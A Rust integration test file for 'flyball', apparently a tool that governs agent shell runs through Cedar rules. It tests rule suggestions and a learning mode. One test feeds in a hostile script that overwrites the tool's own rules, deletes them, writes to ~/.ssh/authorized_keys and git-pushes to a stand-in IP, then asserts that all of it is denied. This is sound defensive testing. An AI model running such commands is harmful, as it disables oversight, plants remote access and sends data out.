//! suggest and `run --learn` on real runs: what is suggested is taken in, and then the same run is not refused.

use crate::support::{Case, World, nothing, stderr, summary};
use flyball_testkit::user::User;
use serde_json::Value;
use std::io::Write;
use std::process::Stdio;

pub fn cases() -> Vec<Case> {
    vec![
        Case { name: "suggestions_taken_in_let_the_same_run_pass", needs: nothing, run: suggested },
        Case { name: "what_was_learned_is_charter_enough", needs: nothing, run: learned },
    ]
}

const TOML: &str = "[charter]\nname = \"t\"\n\n[owners]\nteam = [\"user:nobody-here\"]\n\n[escalation.team]\nask = \"team\"\nwithin = \"5m\"\nthen = \"deny\"\n\n[budget.removals]\ncount = \"fs.delete\"\nlimit = 1\n\n[[example]]\nattempt = \"fs.write(path: '.flyball/rules.cedar')\"\nexpect = \"deny\"\n";

const RULES: &str = "@id(\"work\") @owner(\"team\") @reason(\"Work.\")
permit (principal, action in [Action::\"process\", Action::\"fs.read\", Action::\"fs.delete\", Action::\"fs.chmod\"], resource);

@id(\"sources\") @owner(\"team\") @reason(\"Sources are written.\")
permit (principal, action == Action::\"fs.write\", resource)
when { resource.rel like \"src/*\" || resource.path like \"/dev/*\" };

@id(\"modes\") @owner(\"team\") @escalate(\"team\") @reason(\"Modes are asked about.\")
forbid (principal, action == Action::\"fs.chmod\", resource)
unless { [\"src\"].contains(resource.rel) };
";

fn charter(world: &World, cedar: &str) {
    let dir = world.repo.workspace().join(".flyball");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("charter.toml"), TOML).unwrap();
    std::fs::write(dir.join("rules.cedar"), cedar).unwrap();
    std::fs::create_dir_all(world.repo.workspace().join("src")).unwrap();
    for name in ["one", "two", "three"] {
        std::fs::write(world.repo.workspace().join("src").join(name), "x\n").unwrap();
    }
    world.user.own(&world.repo.workspace()).unwrap();
}

fn govern(world: &World, more: &[&str], script: &str) -> Value {
    let mut words = vec!["run", "--json", "--on-hold", "deny"];
    words.extend(more);
    // Of `sh -c` all would be read from its argument and refused at once.
    std::fs::write(world.repo.workspace().join("agent.sh"), script).unwrap();
    words.extend(["--", "sh", "agent.sh"]);
    let output = world.flyball(&words).output().unwrap();
    summary(&output)
}

/// Takes the patch in as `git apply` does.
fn take(world: &World, patch: &str) {
    let mut git = world.user.command(std::path::Path::new("git"), &world.repo.home());
    git.args(["apply", "--whitespace=nowarn", "-"]).current_dir(world.repo.workspace()).stdin(Stdio::piped());
    let mut child = git.stderr(Stdio::piped()).spawn().unwrap();
    child.stdin.take().unwrap().write_all(patch.as_bytes()).unwrap();
    let output = child.wait_with_output().unwrap();
    assert!(output.status.success(), "{patch}\n{}", stderr(&output));
}

fn suggested(user: User) {
    let world = World::new(user);
    charter(&world, RULES);
    let script = "mkdir -p docs; echo a > docs/a.md; echo b > notes.md; rm -f src/one; rm -f src/two; rm -f src/three; \
                  chmod 700 src/four; echo z > .flyball/rules.cedar; true";
    std::fs::write(world.repo.workspace().join("src/four"), "x\n").unwrap();
    user.own(&world.repo.workspace()).unwrap();
    let before = govern(&world, &["--apply", "never"], script);
    assert!(before["denied"].as_u64().unwrap() >= 5, "{before}");
    let found: Value = serde_json::from_str(&world.ok(&["suggest", "@", "--json"])).unwrap();
    let text = found.to_string();
    let kinds: Vec<&Value> = found["suggestions"].as_array().unwrap().iter().map(|s| &s["kinds"][0]).collect();
    for kind in ["permit", "limit", "list"] {
        assert!(kinds.iter().any(|k| *k == kind), "no {kind} in {kinds:?}: {text}");
    }
    assert!(found["not_suggested"].to_string().contains("touches the charter"), "{text}");
    assert_eq!(found["not_in_patch"].as_array().map(Vec::len), Some(0), "{text}");
    let patch = world.ok(&["suggest", "@", "--patch", "-q"]);
    take(&world, &patch);
    world.ok(&["check", "-q"]);
    let after = govern(&world, &["--apply", "never"], script);
    // The write to the charter is what stays refused: as the shell's command, its redirection, or both.
    let log = world.log();
    let refused: Vec<String> = log
        .iter()
        .filter(|e| e["kind"] == "ruling" && e["body"]["verdict"] != "allow")
        .map(|e| log.iter().find(|a| a["seq"] == e["body"]["of"]).unwrap()["body"].to_string())
        .collect();
    assert!(!refused.is_empty() && refused.iter().all(|body| body.contains(".flyball")), "{after} {refused:#?}");
    world.verifies();
}

fn learned(user: User) {
    let world = World::new(user);
    // Nothing is permitted at all.
    charter(&world, "");
    let script = "mkdir -p build/x; echo a > build/x/a.o; echo b > build/x/b.o; cp src/one build/one; rm -f src/two; \
                  chmod 700 src/three; cat build/x/a.o";
    let refused = govern(&world, &["--apply", "never"], script);
    assert_eq!((&refused["changed_files"], refused.get("learning")), (&Value::from(0), None), "{refused}");
    for apply in ["always", "contract"] {
        let output = world.flyball(&["run", "--learn", "--apply", apply, "--", "true"]).output().unwrap();
        assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    }
    let learning = govern(&world, &["--learn"], script);
    assert_eq!((&learning["learning"], &learning["exit"]), (&Value::Bool(true), &Value::from(0)), "{learning}");
    assert!(learning["changed_files"].as_u64().unwrap() >= 4, "{learning}");
    assert!(world.ok(&["show", "@"]).contains("learning"), "show doesn't say that it learned");
    let rulings = world.ok(&["log", "@", "--kind", "ruling"]);
    assert!(rulings.contains("learning") && !rulings.contains("deny"), "{rulings}");
    let output = world.flyball(&["apply", "@"]).output().unwrap();
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    assert!(stderr(&output).contains("--reason"), "{}", stderr(&output));
    let patch = world.ok(&["suggest", "@", "--generalise", "--patch", "-q"]);
    take(&world, &patch);
    world.ok(&["check", "-q"]);
    let after = govern(&world, &["--apply", "never"], script);
    assert_eq!((&after["denied"], &after["exit"]), (&Value::from(0), &Value::from(0)), "{patch}\n{after}");
    // The boundary stood while it learned, and what leaves the session was ruled on as ever.
    let hostile = "echo z > .flyball/rules.cedar; rm -rf .flyball; mv .flyball elsewhere; echo k > $HOME/.ssh/authorized_keys; \
                   timeout 5 git push http://192.0.2.1/x HEAD:main; ls .flyball/rules.cedar";
    let tried = govern(&world, &["--learn"], hostile);
    assert!(tried["denied"].as_u64().unwrap() > 0, "{tried}");
    let text = std::fs::read_to_string(world.repo.workspace().join(".flyball/rules.cedar")).unwrap();
    assert!(!text.starts_with('z'), "{text}");
    let log = world.log();
    let let_through = |verb: &str| {
        log.iter().any(|e| {
            let of = |a: &&Value| a["kind"] == "attempt" && a["seq"] == e["body"]["of"] && a["body"]["verb"] == verb;
            e["kind"] == "ruling" && e["body"]["verdict"] == "allow" && log.iter().any(|a| of(&a))
        })
    };
    assert!(!let_through("git.push") && !let_through("net.connect"), "something left the session");
    let on_charter = log.iter().filter(|e| e["kind"] == "attempt" && e["body"]["verb"] != "process.exec").filter(|e| {
        let path = e["body"]["resource"]["path"].as_str().unwrap_or_default();
        path.contains("/.flyball") || path.contains("/.ssh")
    });
    for attempt in on_charter {
        let ruling = log.iter().find(|e| e["kind"] == "ruling" && e["body"]["of"] == attempt["seq"]).unwrap();
        assert_eq!(ruling["body"]["verdict"], "deny", "{attempt}");
    }
    let found = world.ok(&["suggest", "@"]);
    assert!(found.contains("whose protection is never suggested away"), "{found}");
    world.verifies();
}
